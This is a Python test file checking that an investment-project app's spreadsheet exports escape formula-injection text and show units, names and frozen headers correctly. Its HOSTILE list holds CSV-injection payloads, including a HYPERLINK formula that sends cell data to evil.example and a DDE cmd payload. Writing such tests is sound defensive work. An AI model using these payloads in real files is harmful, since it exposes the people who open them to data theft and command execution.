"""Every spreadsheet Haihe writes is safe and readable (issues 11.9 and 12.3): text that
begins with = + - @ (or a tab or carriage return) goes out as text, never as a live
formula (XLSX: a string cell; CSV: the leading apostrophe of OWASP's rule); money cells are
numbers in the unit their header says; chains and regions by name; what it covers and when
it was made; header frozen."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session

from haihe.accounts.models import User
from haihe.accounts.service import principal_of
from haihe.core.tabular import FORMULA_STARTS, append_row, csv_field, csv_text
from haihe.projects import service
from haihe.web.app import create_app
from tests.conftest import signed_client

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def _cells(ws) -> dict:  # noqa: ANN001
    return {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


def test_the_one_rule_neutralises_every_formula_start():
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}
    for text in HOSTILE:
        assert csv_field(text) == "'" + text
    assert csv_field("天津") == "天津" and csv_field(5) == 5 and csv_field(None) == ""
    wb = Workbook()
    ws = wb.active
    append_row(ws, HOSTILE)
    buf = io.BytesIO()
    wb.save(buf)
    back = load_workbook(io.BytesIO(buf.getvalue())).active
    for cell, text in zip(back[1], HOSTILE, strict=True):  # (XML reads \r back as \n)
        assert cell.data_type == "s" and cell.value.strip() == text.strip(), cell.value
    text = csv_text(["a"], [[h] for h in HOSTILE])
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert [r[0] for r in rows[1:]] == ["'" + h for h in HOSTILE]


@pytest.fixture(scope="module")
def hostile_project(demo_engine) -> str:
    with Session(demo_engine) as s:
        admin = principal_of(s.execute(select(User).where(User.username == "admin")).scalar_one())
        service.do_create_project(
            s,
            admin,
            service.ProjectInput(
                code="T-FORMULA-1",
                title=HOSTILE[0],
                intended_investment=Decimal("1234500000"),
                contracted_investment=Decimal("1000000000"),
                landing_region_code="120116",
                chain="biomedicine",
                officer=HOSTILE[1],
                notes=HOSTILE[3],
                signed_on=date(2025, 3, 1),
            ),
        )
        s.commit()
    return "T-FORMULA-1"


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_dashboard_xlsx_is_safe_and_says_what_it_covers(demo_engine, hostile_project, lang):
    client = signed_client(create_app(demo_engine), "admin")
    r = client.get("/dashboard.xlsx", params={"lang": lang, "chain": "biomedicine"})
    assert r.status_code == 200
    wb = load_workbook(io.BytesIO(r.content))
    figures = wb.worksheets[0]
    top = " ".join(str(c.value) for row in figures.iter_rows(max_row=4) for c in row if c.value)
    if lang == "zh":
        assert "统计范围：产业链：生物医药" in top and "生成于" in top and "admin（管理员）" in top
    else:
        assert "Covers: chain: Biomedicine" in top and "Made " in top
    assert figures.freeze_panes is not None
    unit = "亿元" if lang == "zh" else "billion yuan"
    rows = {r[0].value: r for r in figures.iter_rows() if r[0].value}
    intended = rows["意向投资" if lang == "zh" else "Intended investment"]
    assert isinstance(intended[1].value, (int, float)) and intended[2].value == unit
    projects = wb.worksheets[-1]
    assert projects.freeze_panes == "A3"
    heads = [c.value for c in projects[2]]
    money_col = next(i for i, h in enumerate(heads) if h and ("万元" in h or "million yuan" in h))
    cells = _cells(projects)
    title = cells[HOSTILE[0]]
    assert title.data_type == "s"
    assert cells[HOSTILE[1]].data_type == "s"
    row = projects[title.row]
    wan = Decimal(10**4 if lang == "zh" else 10**6)
    assert Decimal(str(row[money_col].value)) == Decimal("1234500000") / wan
    assert row[2].value == ("生物医药" if lang == "zh" else "Biomedicine")  # the chain by name
    assert row[3].value in ("滨海新区", "Binhai New Area", "Binhai")  # the region by name
    by_chain = wb.worksheets[1]
    names = [r[0].value for r in by_chain.iter_rows(min_row=3)]
    assert names == ["生物医药" if lang == "zh" else "Biomedicine"]


def test_projects_export_is_safe_and_reads_back(demo_engine, hostile_project, tmp_path):
    from haihe.projects.transfer import export_projects

    out = tmp_path / "projects.xlsx"
    export_projects(demo_engine, out)
    wb = load_workbook(out)
    ws = wb.worksheets[0]
    cells = _cells(ws)
    assert cells[HOSTILE[0]].data_type == "s" and cells[HOSTILE[3]].data_type == "s"
    heads = [c.value for c in ws[1]]
    assert heads[6] == "意向投资（万元）" and ws.freeze_panes == "A2"
    row = ws[cells[HOSTILE[0]].row]
    assert (
        row[6].value == 123450 and row[3].value == "生物医药" and row[11].value == "天津市滨海新区"
    )
    assert "说明 about" in wb.sheetnames


def test_organisation_export_and_error_report_are_safe(sqlite_engine, tmp_path):
    from haihe.registry import imports
    from haihe.registry.exports import export_organisations
    from tests.registry.helpers import ADMIN, row, write_csv

    path = write_csv(tmp_path / "orgs.csv", [row(1, 企业名称=HOSTILE[0], 经营范围=HOSTILE[1])])
    report = imports.do_import_organisations(sqlite_engine, ADMIN, path)
    assert report.ok, report
    out = tmp_path / "orgs.xlsx"
    export_organisations(sqlite_engine, out)
    cells = _cells(load_workbook(out).worksheets[0])
    assert cells[HOSTILE[0]].data_type == "s" and cells[HOSTILE[1]].data_type == "s"
    ws = load_workbook(out).worksheets[0]
    assert ws.freeze_panes == "A2" and ws[1][4].value == "所属地区"
    assert ws[2][4].value == "天津市滨海新区"  # the region by name
    out_csv = tmp_path / "orgs.csv.out.csv"
    export_organisations(sqlite_engine, out_csv)
    text = out_csv.read_text(encoding="utf-8-sig")
    fields = next(r for r in csv.reader(io.StringIO(text)) if r and r[0].startswith("9"))
    assert "'" + HOSTILE[0] in fields and "'" + HOSTILE[1] in fields
    bad = write_csv(tmp_path / "bad.csv", [row(2, 企业名称=HOSTILE[2], 所属地区="火星")])
    report = imports.do_import_organisations(sqlite_engine, ADMIN, bad)
    assert not report.ok and report.report_path
    wb = load_workbook(report.report_path)
    cells = _cells(wb.worksheets[0])
    assert cells[HOSTILE[2]].data_type == "s"
    assert wb.worksheets[0].freeze_panes == "A2" and "说明 about" in wb.sheetnames


def test_chain_definition_workbook_is_safe(demo_engine):
    from dataclasses import replace

    from haihe.chains import queries as chains
    from haihe.chains.definitions import to_xlsx

    with Session(demo_engine) as s:
        d = chains.get_chain(s, "biomedicine").definition
    wb = load_workbook(io.BytesIO(to_xlsx(replace(d, description_zh=HOSTILE[0]))))
    assert _cells(wb.worksheets[0])[HOSTILE[0]].data_type == "s"
